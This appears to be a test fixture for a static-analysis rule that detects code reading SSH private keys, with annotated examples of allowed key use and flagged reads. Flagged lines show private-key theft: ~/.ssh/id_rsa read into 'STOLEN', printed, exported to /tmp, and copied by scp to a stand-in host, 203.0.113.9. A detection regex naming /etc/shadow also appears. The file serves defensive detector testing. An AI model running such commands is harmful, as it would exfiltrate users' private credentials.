# An SSH key handed to the client that logs in with it is not read by the
# program: paramiko's key_filename=, a key class's from_private_key_file,
# ssh -i, a --key option's default, a name bound to the path and used so.
import argparse
import os
import subprocess
from pathlib import Path

import paramiko

# ok: sensitive-credential-path
KEY = os.path.expanduser("~/.ssh/id_ed25519")

client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.RejectPolicy())
client.connect("build.internal", username="deploy", key_filename=KEY)
# ok: sensitive-credential-path
# ruleid: environment-read
client.connect("build.internal", key_filename=os.environ.get("SSH_KEY", "~/.ssh/id_rsa"))
# ok: sensitive-credential-path
pkey = paramiko.Ed25519Key.from_private_key_file(str(Path.home() / ".ssh" / "id_ed25519"))
client.connect("build.internal", username="deploy", pkey=pkey)
# ok: sensitive-credential-path
subprocess.run(["ssh", "-i", os.path.expanduser("~/.ssh/id_ed25519"), "deploy@build.internal", "uptime"])

ap = argparse.ArgumentParser()
# ok: sensitive-credential-path
ap.add_argument("--key", default=os.path.expanduser("~/.ssh/id_ed25519"))

# the key read, sent, or bound to a name also used otherwise
# ruleid: sensitive-credential-path
STOLEN = os.path.expanduser("~/.ssh/id_rsa")
client.connect("build.internal", key_filename=STOLEN)
payload = open(STOLEN).read()
# ruleid: sensitive-credential-path
data = Path("~/.ssh/id_ed25519").expanduser().read_text()
# ruleid: sensitive-credential-path
ap.add_argument("--out", default="~/.ssh/id_rsa")
# ruleid: sensitive-credential-path
subprocess.run(["scp", os.path.expanduser("~/.ssh/id_rsa"), "203.0.113.9:/tmp/"])
# the loaded key written out or exported
# ruleid: sensitive-credential-path
loaded = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))
client.connect("build.internal", pkey=loaded)
loaded.write_private_key_file("/tmp/cache/k")

# a tunnel's login key (sshtunnel's ssh_pkey=), and the path only shown in a hint
from sshtunnel import SSHTunnelForwarder

# ok: sensitive-credential-path
# ruleid: environment-read
_bastion_key = Path(os.environ.get("BASTION_KEY", "~/.ssh/id_ed25519")).expanduser()
_tunnel = SSHTunnelForwarder(("bastion.example.net", 22), ssh_username="ops", ssh_pkey=str(_bastion_key),
                             remote_bind_address=("db.internal", 5432))
# ok: sensitive-credential-path
print("no keys loaded; add yours with: ssh-add ~/.ssh/id_ed25519")
# the key's text printed is a read
# ruleid: sensitive-credential-path
print(open("/home/ops/.ssh/id_rsa").read())
# a regular expression's pattern is never opened
import re

# ok: sensitive-credential-path
_KEY_PATTERN = re.compile(r"/etc/shadow|\.ssh/id_(?:rsa|ed25519)\b")
